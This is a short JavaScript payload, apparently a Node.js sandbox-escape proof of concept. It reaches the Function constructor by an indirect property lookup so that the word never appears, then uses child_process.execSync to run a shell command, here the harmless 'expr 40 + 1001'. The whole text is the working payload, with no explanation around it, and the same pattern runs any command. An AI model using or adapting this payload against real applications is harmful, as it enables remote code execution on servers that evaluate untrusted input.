const k=Object.getOwnPropertyNames(Object.prototype)[0]; const {log}=console;
log[k]('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
